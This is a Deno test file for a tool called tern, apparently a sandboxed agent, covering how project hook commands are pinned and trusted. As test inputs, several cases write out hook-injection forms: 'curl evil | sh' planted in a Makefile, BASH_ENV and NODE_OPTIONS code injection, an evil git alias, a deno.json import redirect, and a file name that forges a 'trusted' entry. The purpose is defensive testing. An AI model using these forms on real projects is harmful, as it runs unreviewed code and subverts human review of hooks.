/**
 * Trust pins what a project hook runs only when tern can follow its command: one written in a
 * form whose scripts are not known (a group, `bash -c`, `env -C`, a pattern, a variable) can
 * never be trusted, since a changed script would otherwise still run.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { readHookCommand } from "../../src/mcp/_pinned_command.ts";
import { hooksText } from "../../src/cli/hooks.ts";
import { loadHooks } from "../../src/sandbox/hooks/load.ts";
import { trustHooks } from "./_trust.ts";

const WS = "/ws";
/** A workspace whose scripts exist: a script that does not exist as named is never followed. */
const REAL = Deno.realPathSync(Deno.makeTempDirSync({ prefix: "hooks-read-" }));
for (const file of ["tools/check", "tools/x.ts", "tools/check.sh", "hooks/x.sh", "a.sh", "b.sh"]) {
  Deno.mkdirSync(join(REAL, file, ".."), { recursive: true });
  Deno.writeTextFileSync(join(REAL, file), "");
}
Deno.mkdirSync(join(REAL, "sub"));
Deno.writeTextFileSync(join(REAL, "sub", "a.sh"), "");
Deno.writeTextFileSync(join(REAL, "sub", "b.sh"), "");
addEventListener("unload", () => Deno.removeSync(REAL, { recursive: true }));

function followed(command: string): Array<[string, string[], number[]]> {
  const reading = readHookCommand(command, REAL);
  equal(reading.unfollowable, undefined, `${command}: ${reading.unfollowable}`);
  return reading.parts.map((p) => [p.cwd, p.argv, [...p.scripts].sort()]);
}

Deno.test("readHookCommand() follows cd, subshells, quotes and redirections", () => {
  deepEqual(followed("cd tools && ./check.sh"), [[`${REAL}/tools`, ["./check.sh"], [0]]]);
  // A wrapper before the cd is taken off: the cd is still seen.
  deepEqual(followed("builtin cd tools && ./check.sh"), [[`${REAL}/tools`, ["./check.sh"], [0]]]);
  deepEqual(followed("(cd sub && ./a.sh); ./b.sh"), [
    [`${REAL}/sub`, ["./a.sh"], [0]],
    [REAL, ["./b.sh"], [0]],
    [`${REAL}/sub`, ["./b.sh"], [0]],
  ]);
  // Quotes are removed as the shell removes them; a redirection's target is data, not a word.
  deepEqual(followed(`"$CLAUDE_PROJECT_DIR"/hooks/x.sh 'a b' > out.log 2>&1 </dev/null`), [
    [REAL, [`${REAL}/hooks/x.sh`, "a b"], [0]],
  ]);
  // An interpreter's script names code whatever its name; `command -v` runs nothing.
  deepEqual(followed("command -v jq >/dev/null && bash -e tools/check -q # a comment"), [
    [REAL, ["bash", "-e", "tools/check", "-q"], [0, 2]],
  ]);
  deepEqual(followed("[ -f x ] && python3 -m tools.mod"), [
    [REAL, ["[", "-f", "x", "]"], [0]],
    [REAL, ["python3", "-m", "tools.mod", "./tools/mod.py", "./tools/mod"], [0, 3, 4]],
  ]);
  deepEqual(followed("python3 -mtools.mod")[0][1].slice(-2), ["./tools/mod.py", "./tools/mod"]);
  // A build tool's own files are what it runs.
  deepEqual(followed("make -s hook"), [
    [REAL, ["make", "-s", "hook", "./Makefile", "./makefile", "./GNUmakefile"], [0, 3, 4, 5]],
  ]);
  deepEqual(followed("make -ftools/hook.mk x")[0][1].at(-1), "./tools/hook.mk");
  // npm's own files here, and the package.json and .npmrc it may find in the folders above.
  deepEqual(followed("npm run lint")[0][1].slice(3), [
    "./package.json",
    `${REAL}/package.json`,
    `${REAL}/.npmrc`,
  ]);
  deepEqual(followed("deno run -A --no-prompt tools/x.ts")[0][2], [0, 4]);
});

Deno.test("readHookCommand() refuses every form outside its grammar", () => {
  for (
    const [command, why] of [
      // Groups, keywords, builtins that run or change code, function definitions.
      ["{ cd tools; ./check.sh; }", /holds "\{" outside quotes/],
      ["if cd tools; then ./check.sh; fi", /shell's `if`/],
      ["eval ./x.sh", /shell's `eval`/],
      ["export PATH=ev; mytool", /shell's `export`/],
      ["set -P; cd lk && ./x.sh", /shell's `set`/],
      ["[[ 1 -eq 'a[x]' ]]", /shell's `\[\[`/],
      ["printf -v 'a[x]' x", /`printf` with these options/],
      ["printf -vPATH ev && mytool", /`printf` with these options/],
      ["wait -p PATH; mytool", /`wait` with these options/],
      ["test -v 'a[$(ev/x.sh)]'", /`test` with these options/],
      ["[ -v 'a[$(ev/x.sh)]' ]", /`\[` with these options/],
      ["read 'a' </dev/null", /shell's `read`/],
      ["cd() (:); cd sub && ./x.sh", /defines a shell function/],
      // Code as text, or commands read from input.
      ["bash -c 'cd tools; ./check.sh'", /given its code as text/],
      ["timeout 5 sh -ec './x.sh'", /given its code as text/],
      ["python3 -c 'import x'", /given its code as text/],
      ["node -e 'require(1)'", /given its code as text/],
      ["ls | xargs ./x.sh", /`xargs` runs/],
      ["find . -exec ./x.sh ';'", /find -exec/],
      ["bash", /reads its code from its input/],
      ["bash /dev/stdin", /reads its code from its input/],
      ["bash /dev/stdin < ev/x.sh", /reads a file as input/],
      ["python3 - </dev/null", /reads its code from its input/],
      ["node < ev/evil.js", /reads a file as input/],
      ["bash <<EOF\n./x.sh\nEOF", /here-document/],
      ["diff <(./a.sh) b", /process substitution/],
      // Words whose value the shell makes: expansions, escapes, `~`, patterns.
      ["bash $SCRIPT", /expands `\$…`/],
      ['"${DIR}/x.sh"', /double quotes/],
      ["$(cat prog) x", /expands/],
      ["timeout 5 `cat prog`", /expands/],
      ["$'ev/x.sh'", /expands/],
      ['"ev/\\\nx.sh"', /double quotes/],
      ["echo ${x:-$(ev/x.sh)}", /expands/],
      ["ev\\/x.sh", /escapes a character/],
      ["cd ~+/ev && ./x.sh", /with `~`/],
      ["bash tools/ch*.sh", /holds "\*"/],
      ["bash tools/{a,b}.sh", /holds "\{"/],
      ["bash tools/[ab].sh", /pattern/],
      ["./x.sh\r", /holds "\\r"/],
      // Another folder, links, variables that choose what runs.
      ["cd -P ev && ./x.sh", /form of `cd`/],
      ["cd", /form of `cd`/],
      ["cd /tmp && ./x.sh", /leads out of the workspace/],
      ["bash /tmp/x.sh", /any command may write/],
      ["lk/../x.sh", /through `\.\.`/],
      ["CDPATH=ev cd sub && ./x.sh", /sets a variable/],
      ["BASH_ENV=ev/rc bash ok.sh", /sets a variable/],
      ["env NODE_OPTIONS=--require=./ev/e.js node ok.js", /sets a variable/],
      ["env -C tools ./check.sh", /`env -C` is a form/],
      ["make -C tools hook", /runs from another folder/],
      ["npm --prefix tools run x", /runs from another folder/],
      ["git -c alias.q=!ev/x q", /`git -c`/],
      ["node --require=./ev/evil.js ok.js", /option tern does not know/],
      ["perl -Mevil ok.pl", /option tern does not know|code as text/],
      ["perl -Ilib ok.pl", /option tern does not know/],
      ["python3 -W ignore x.py", /option tern does not know/],
      ["./x.sh 'open", /quote is not closed/],
      // Review findings: make's code as text, and scripts of another package.
      [`make "--eval=hook: ; @sh lib/run.sh" hook`, /given code as text/],
      ["make -E 'hook: ; @sh lib/run.sh' hook", /given code as text/],
      ["make -sEhook: hook", /given code as text/],
      ["npm exec -c 'sh lib/run.sh'", /given code as text/],
      ["npm run -s check -w pkgs/tools", /another package/],
      ["npm run check --workspace=pkgs/tools", /another package/],
      ["npm run check --workspaces", /another package/],
      ["npm -ws run check", /another package/],
      ["pnpm --filter tools run check", /another package/],
      ["pnpm -Ftools check", /another package/],
      ["pnpm -r run check", /another package/],
      ["pnpm -C pkgs/tools run check", /another folder/],
      ["pnpm --dir pkgs/tools run check", /another folder/],
      ["yarn workspace tools run check", /another package/],
      ["yarn --cwd pkgs/tools check", /another folder/],
      ["bun --filter tools run check", /another package/],
      ["deno task --recursive check", /another package/],
      ["just -f tools/justfile hook", /another package/],
      // A script that does not exist as named: node would run tools/hook.js.
      ["node tools/hook", /"tools\/hook" does not exist as named/],
      ["source lib.sh", /looks for the file on PATH first/],
      // Programs that build and run the whole project: nothing pinned covers what they run.
      ["cargo run --release", /builds and runs the project's code/],
      ["cargo +nightly clippy", /builds and runs the project's code/],
      ["go test ./...", /builds and runs the project's code/],
      ["(./x.sh", /not closed/],
    ] as const
  ) {
    const reading = readHookCommand(command, WS);
    ok(reading.unfollowable !== undefined, `${JSON.stringify(command)} was followed`);
    match(reading.unfollowable!, why, command);
  }
});

type Places = { ternHome: string; workspace: string };

/** Runs `fn` in a fresh workspace with a `.tern` folder and a tern home, removed after. */
async function inProject(fn: (places: Places) => Promise<void>): Promise<void> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-follow-" }));
  const places = { ternHome: join(root, "home"), workspace: join(root, "ws") };
  try {
    await Deno.mkdir(places.ternHome);
    await Deno.mkdir(join(places.workspace, ".tern"), { recursive: true });
    await fn(places);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
}

/** Writes the project's settings with one `event` hook running `command`. */
function settings(workspace: string, command: string, event = "SessionStart"): Promise<void> {
  return Deno.writeTextFile(
    join(workspace, ".tern", "settings.json"),
    JSON.stringify({ hooks: { [event]: [{ hooks: [{ type: "command", command }] }] } }),
  );
}

async function trustAll(places: Places): Promise<void> {
  await trustHooks(places, (await loadHooks(places)).sources.map((l) => l.source));
}

Deno.test("a hook tern cannot follow is never trusted, and a trusted script's change lapses trust", () =>
  inProject(async (places) => {
    const { workspace } = places;
    await Deno.mkdir(join(workspace, "tools", "pkg"), { recursive: true });
    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo reviewed\n");
    await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(1)\n");
    const trustAndLoad = async () => {
      await trustAll(places);
      return (await loadHooks(places)).sources[0];
    };

    // The form of the finding: the script is tools/check.sh, which the old reading missed.
    await settings(workspace, "{ cd tools; ./check.sh; }");
    let loaded = await trustAndLoad();
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /cannot tell which files it runs: it holds "\{" outside quotes/);
    match(hooksText(await loadHooks(places)), /cd DIR && \.\/script/);

    // A followable form pins the script and lapses when it changes.
    await settings(workspace, "cd tools && ./check.sh");
    loaded = await trustAndLoad();
    ok(loaded.trusted, loaded.whyNot);
    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo injected\n");
    loaded = (await loadHooks(places)).sources[0];
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"tools\/check\.sh" changed/);

    // A folder an interpreter runs has its files pinned.
    await settings(workspace, "python3 tools/pkg");
    loaded = await trustAndLoad();
    ok(loaded.trusted, loaded.whyNot);
    await Deno.writeTextFile(join(workspace, "tools", "pkg", "__main__.py"), "print(2)\n");
    loaded = (await loadHooks(places)).sources[0];
    match(loaded.whyNot ?? "", /"tools\/pkg\/__main__\.py" changed/);

    // A build tool's file: `make` runs the Makefile.
    await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\techo ok\n");
    await settings(workspace, "make -s hook");
    loaded = await trustAndLoad();
    ok(loaded.trusted, loaded.whyNot);
    await Deno.writeTextFile(join(workspace, "Makefile"), "hook:\n\tcurl evil | sh\n");
    match((await loadHooks(places)).sources[0].whyNot ?? "", /"Makefile" changed/);
  }));

Deno.test("a hook whose script a link in the workspace leads into /tmp is never trusted", () =>
  inProject(async (places) => {
    const { workspace } = places;
    // /tmp is where every sandboxed command may write: a script there is the model's to change.
    const outside = await Deno.makeTempDir({ dir: "/tmp", prefix: "hook-outside-" });
    try {
      await Deno.writeTextFile(join(outside, "x.sh"), "echo reviewed\n");
      await Deno.symlink(outside, join(workspace, "lk"));
      await settings(workspace, "bash lk/x.sh");
      await trustAll(places);
      const [loaded] = (await loadHooks(places)).sources;
      equal(loaded.trusted, false);
      match(loaded.whyNot!, /where any command may write/);
    } finally {
      await Deno.remove(outside, { recursive: true });
    }
  }));

Deno.test("tern hooks list shows a file name with line breaks on one line", () =>
  inProject(async (places) => {
    const { workspace } = places;
    await Deno.mkdir(join(workspace, "tools"));
    await Deno.writeTextFile(join(workspace, "tools", "check.sh"), "echo ok\n");
    await settings(workspace, "bash tools/check.sh", "Stop");
    await trustAll(places);
    // A file made beside the script after trust, named to forge a "trusted" entry below.
    await Deno.writeTextFile(
      join(workspace, "tools", "d\r\n\n(project, trusted)\n  SessionStart: ok\r"),
      "x",
    );
    const text = hooksText(await loadHooks(places));
    ok(!/\n\(project, trusted\)/.test(text), text);
    match(text, /NOT trusted.*d␍↵↵\(project, trusted\)↵/);
  }));

Deno.test("tern hooks list says a pinned script is missing", () =>
  inProject(async (places) => {
    await settings(places.workspace, "./tools/none.sh", "Stop");
    await trustAll(places);
    match(hooksText(await loadHooks(places)), /pins tools\/none\.sh \(missing: no such file now\)/);
  }));

Deno.test("a hook whose script exists only under another name is never trusted", () =>
  inProject(async (places) => {
    // Review finding: `node tools/hook` pinned "tools/hook (missing)" while Node ran hook.js.
    const { workspace } = places;
    await Deno.mkdir(join(workspace, "tools"));
    await Deno.writeTextFile(join(workspace, "tools", "hook.js"), "console.log(1)\n");
    for (const command of ["node tools/hook", "python3 tools/hook", "bash tools/hook"]) {
      await settings(workspace, command);
      await trustAll(places);
      const [loaded] = (await loadHooks(places)).sources;
      equal(loaded.trusted, false, command);
      match(loaded.whyNot!, /its script "tools\/hook" does not exist as named/, command);
      match(loaded.whyNot!, /with its extension/);
    }
    // Named as it is, it is trusted.
    await settings(workspace, "node tools/hook.js");
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
  }));

Deno.test("a deno hook pins the deno.json and package.json Deno reads from its folder up", () =>
  inProject(async (places) => {
    // Review finding: {"imports": {"./tools/helper.ts": "./evil.ts"}} in a deno.json made after
    // trust redirected the trusted script's import; and `deno task` falls back to package.json.
    const { workspace } = places;
    await Deno.mkdir(join(workspace, "tools"));
    await Deno.writeTextFile(join(workspace, "tools", "hook.ts"), 'import "./helper.ts";\n');
    await Deno.writeTextFile(join(workspace, "tools", "helper.ts"), "console.log(1);\n");
    await settings(workspace, "cd tools && deno run -A hook.ts");
    await trustAll(places);
    let [loaded] = (await loadHooks(places)).sources;
    ok(loaded.trusted, loaded.whyNot);
    const imports = { imports: { "./tools/helper.ts": "./evil.ts" } };
    await Deno.writeTextFile(join(workspace, "deno.json"), JSON.stringify(imports));
    [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"deno\.json" was created/);

    // `deno task` without a deno.json runs package.json's scripts: a change there lapses trust.
    await Deno.remove(join(workspace, "deno.json"));
    await Deno.writeTextFile(join(workspace, "package.json"), '{"scripts":{"x":"echo ok"}}');
    await settings(workspace, "deno task x");
    await trustAll(places);
    [loaded] = (await loadHooks(places)).sources;
    ok(loaded.trusted, loaded.whyNot);
    await Deno.writeTextFile(join(workspace, "package.json"), '{"scripts":{"x":"sh lib/evil.sh"}}');
    [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"package\.json" changed/);
  }));
